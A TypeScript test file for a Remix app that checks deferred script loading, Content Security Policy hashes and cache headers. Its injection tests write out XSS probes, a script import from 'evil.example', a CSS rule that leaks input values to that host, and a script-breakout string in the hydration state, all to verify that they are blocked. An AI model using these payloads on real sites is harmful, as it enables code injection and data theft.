import { createHash } from "node:crypto";
import { runInNewContext } from "node:vm";
import type { EntryContext } from "@remix-run/node";
import { JSDOM } from "jsdom";
import { describe, expect, it } from "vitest";
import { applyCachePolicy, CACHE_CONTROL, wantsLightVersion } from "../../app/document/cache";
import { HYDRATION_ID, STATE_ID } from "../../app/document/hydration-data";
import { type PageParts, postProcessHtml } from "../../app/document/post-process-html";
import { renderHydration } from "../../app/document/render-hydration.server";
import { LOADER_SCRIPT } from "../../app/document/script-loader";

const RENDERED =
  '<!DOCTYPE html><html><head><link rel="stylesheet" href="/assets/index.css"/></head><body><p>x</p></body></html>';

/** What Remix hands over for a page with one route besides the root. */
const CONTEXT = {
  manifest: {
    url: "/assets/manifest-1.js",
    entry: { module: "/assets/entry-1.js", imports: ["/assets/club-1.js"] },
    routes: {
      root: { id: "root", module: "/assets/root-1.js", imports: ["/assets/club-1.js"] },
      "routes/promo": { id: "routes/promo", module: "/assets/promo-1.js" },
      "routes/login": { id: "routes/login", module: "/assets/login-1.js" },
    },
  },
  staticHandlerContext: { matches: [{ route: { id: "root" } }, { route: { id: "routes/promo" } }] },
  serverHandoffString: '{"basename":"/"}',
} as unknown as EntryContext;

const STATE = '[{"_1":2},"text","</script><script>alert(1)</script><!--"]';
const hydration = renderHydration(CONTEXT, STATE);
const process = (rendered: string, parts: Partial<PageParts> = {}) =>
  postProcessHtml(rendered, { hydration, showsDocument: false, ...parts });

const sha = (text: string) => `'sha256-${createHash("sha256").update(text).digest("base64")}'`;
const directive = (policy: string, name: string) => new RegExp(`(?:^|; )${name} ([^;]*)`).exec(policy)?.[1];

describe("architecture: scripts start on the first touch", () => {
  it("architecture: a page requests no script by itself, and its loader is at most 1 KB", () => {
    const { html } = process(RENDERED);
    expect(html.replace(LOADER_SCRIPT, "")).not.toMatch(
      /<link rel="modulepreload"|<script[^>]* (src|async)|type="module"/,
    );
    for (const file of ["manifest-1", "entry-1", "club-1", "root-1", "promo-1"]) {
      expect(html.split(`<link data-rel="modulepreload" href="/assets/${file}.js">`)).toHaveLength(2);
    }
    expect(html).not.toContain("login-1");
    expect(html).toContain(`<script>${LOADER_SCRIPT}</script></body>`);
    expect(Buffer.byteLength(LOADER_SCRIPT)).toBeLessThanOrEqual(1024);
    expect(() => runInNewContext(`(function(){${LOADER_SCRIPT}})`)).not.toThrow();
  });

  it("architecture: the page's data is complete and can't end its element", () => {
    const { window } = new JSDOM(process(RENDERED).html);
    const { document } = window;
    expect(document.querySelectorAll("script")).toHaveLength(3);
    const data = document.getElementById(HYDRATION_ID);
    expect(data?.dataset.entry).toBe("/assets/entry-1.js");
    expect(JSON.parse(data?.textContent ?? "")).toEqual({
      context: { basename: "/" },
      manifest: "/assets/manifest-1.js",
      routes: { root: "/assets/root-1.js", "routes/promo": "/assets/promo-1.js" },
    });
    expect(JSON.parse(document.getElementById(STATE_ID)?.textContent ?? "")).toEqual(JSON.parse(STATE));
  });

  it("architecture: the policy allows the loader and the page's own styles, and is as short as that", () => {
    const { html, policy } = process(RENDERED);
    const css = /<style>(.*)<\/style>/s.exec(html)?.[1] ?? "";
    expect(directive(policy, "script-src")).toBe(`'self' ${sha(LOADER_SCRIPT)}`);
    expect(directive(policy, "style-src-elem")).toBe(`'self' ${sha(css)}`);
    expect(Buffer.byteLength(policy)).toBeLessThan(450);
    expect(process(RENDERED).html).toBe(html);
    expect(directive(process(RENDERED, { hydration: null }).policy, "script-src")).toBe("'self'");
  });

  it.each([
    "<script>alert(1)</script>",
    '<script type="module">import "https://evil.example/x.js"</script>',
    "<script nonce>alert(1)</script>",
    "<style>input[value^='7']{background:url(//evil.example)}</style>",
  ])("architecture: what somebody plants in a page isn't allowed by the policy: %s", (planted) => {
    const clean = process(RENDERED);
    const { html, policy } = process(RENDERED.replace("<p>x</p>", planted));
    expect(html).toContain(planted);
    expect(policy).toBe(clean.policy);
  });

  it("architecture: only a page that shows a PDF may have an object or a frame; base, forms and frames stay ours", () => {
    const { policy } = process(RENDERED);
    expect([directive(policy, "object-src"), directive(policy, "frame-src")]).toEqual(["'none'", "'none'"]);
    expect([directive(policy, "base-uri"), directive(policy, "form-action")]).toEqual(["'none'", "'self'"]);
    expect(directive(policy, "frame-ancestors")).toBe("'none'");
    const rules = process(RENDERED, { showsDocument: true }).policy;
    expect(directive(rules, "object-src")).toBe("'self' https:");
  });

  it("architecture: a page without scripts gets no loader and no data", () => {
    const light = "<html><body><p>x</p></body></html>";
    expect(process(light, { hydration: null }).html).toBe(light);
  });

  it("architecture: the complete style sheet is deferred like the scripts, and left out with them", () => {
    expect(process(RENDERED).html).toContain('<link data-rel="stylesheet" href="/assets/index.css"/>');
    expect(process(RENDERED, { hydration: null }).html).not.toContain("stylesheet");
  });

  it("architecture: a page carries the styles of the components that it shows", () => {
    const { html } = process('<html><head></head><body class="page"><p class="field-hint lead">x</p></body></html>');
    const css = /<style>(.*)<\/style><\/head>/s.exec(html)?.[1] ?? "";
    const first = ["body {", ".page {", ".field {", "[hidden] {"].map((rule) => css.indexOf(rule));
    expect(first).toEqual(first.filter((place) => place >= 0).sort((one, other) => one - other));
    expect(css).toMatch(/\.page ?\{/);
    expect(css).toMatch(/\.field ?\{/);
    expect(css).toContain("[hidden]");
    expect(css).not.toMatch(/\.(chart|part-tag)\b/);
  });

  it("architecture: the head has the styles of the header, and those of the rest follow the header, each once", () => {
    const header = '<header id="site-header" class="site-header">x</header>';
    const body = `<body class="page">${header}<style></style><p class="field-hint page">x</p></body>`;
    const { html, policy } = process(`<html><head></head>${body}</html>`);
    const [head = "", later = ""] = Array.from(html.matchAll(/<style>(.*?)<\/style>/gs), ([, css]) => css);
    expect(html.indexOf(head)).toBeLessThan(html.indexOf("</head>"));
    expect(html).toContain(`</header><style>${later}</style><p`);
    expect(directive(policy, "style-src-elem")).toBe(`'self' ${sha(head)} ${sha(later)}`);
    expect(head).toMatch(/\.page ?\{/);
    expect(head).toMatch(/\.site-header ?\{/);
    expect(head).not.toMatch(/\.field ?\{/);
    expect(later).toMatch(/\.field ?\{/);
    expect(later).not.toMatch(/\.page ?\{|\.site-header|\[hidden\]/);
    // Rendering waits for an element that is there.
    const { document } = new JSDOM(html).window;
    const expected = document.querySelector('head > link[rel="expect"][blocking="render"]')?.getAttribute("href") ?? "";
    expect(document.querySelector(expected)?.tagName).toBe("HEADER");
    expect(process(RENDERED).html).not.toContain("expect");
  });

  it("architecture: Save-Data and the cookie of the light version leave the scripts out", () => {
    const request = (headers: Record<string, string>) => new Request("http://club/", { headers });
    expect(wantsLightVersion(request({ "Save-Data": "on" }))).toBe(true);
    expect(wantsLightVersion(request({ Cookie: "a=b; light=1" }))).toBe(true);
    expect(wantsLightVersion(request({ Cookie: "highlight=1; light=10" }))).toBe(false);
  });
});

describe("architecture: caching", () => {
  const cacheHeadersOf = (
    request: RequestInit,
    given: Record<string, string>,
    { status = 200, header }: { status?: number; header?: string } = {},
  ) => {
    const headers = new Headers(given);
    applyCachePolicy(new Request("http://club/", request), status, headers, header);
    return headers;
  };
  const guest = { "Cache-Control": CACHE_CONTROL.guest };

  it("architecture: a guest's page may be cached by proxies, and Vary names the headers it depends on", () => {
    const headers = cacheHeadersOf({}, guest);
    expect(headers.get("Cache-Control")).toBe("public, s-maxage=60, stale-while-revalidate=600");
    expect(headers.get("Vary")).toBe("Cookie, Save-Data, Sec-Fetch-Site");
    expect(cacheHeadersOf({}, { ...guest, "Set-Cookie": "a=b" }).get("Vary")).toBe("Cookie, Save-Data");
  });

  it("architecture: a personal page is never public", () => {
    expect(cacheHeadersOf({ headers: { Cookie: "__Host-session=1" } }, guest).get("Cache-Control")).toBe(
      "private, no-cache",
    );
    expect(cacheHeadersOf({}, { ...guest, "Set-Cookie": "a=b" }).get("Cache-Control")).toBe("private, no-cache");
    expect(cacheHeadersOf({ method: "POST" }, guest).get("Cache-Control")).toBe("private, no-cache");
    expect(cacheHeadersOf({}, guest, { status: 500 }).get("Cache-Control")).toBe("private, no-cache");
  });

  it("architecture: with a header of its own a guest's page is private for every cache that doesn't know it", () => {
    const header = "Club-Cache-Control";
    const headers = cacheHeadersOf({}, guest, { header });
    expect(headers.get("Cache-Control")).toBe(CACHE_CONTROL.session);
    expect(headers.get(header)).toBe("public, max-age=60, stale-while-revalidate=600");
    expect(headers.get("Vary")).toBe("Cookie, Save-Data, Sec-Fetch-Site");
    for (const personal of [
      cacheHeadersOf({ headers: { Cookie: "__Host-session=1" } }, guest, { header }),
      cacheHeadersOf({}, { ...guest, "Set-Cookie": "a=b" }, { header }),
      cacheHeadersOf({ method: "POST" }, guest, { header }),
      cacheHeadersOf({}, guest, { header, status: 500 }),
      cacheHeadersOf({}, { "Cache-Control": CACHE_CONTROL.session }, { header }),
    ]) {
      expect([personal.get("Cache-Control"), personal.get(header)]).toEqual([CACHE_CONTROL.session, null]);
    }
  });

  it("architecture: a page is private by default, and pages with money or documents are not stored", () => {
    expect(cacheHeadersOf({}, {}).get("Cache-Control")).toBe("private, no-cache");
    expect(cacheHeadersOf({}, { "Cache-Control": CACHE_CONTROL.secret }).get("Cache-Control")).toBe(
      "private, no-store",
    );
  });
});
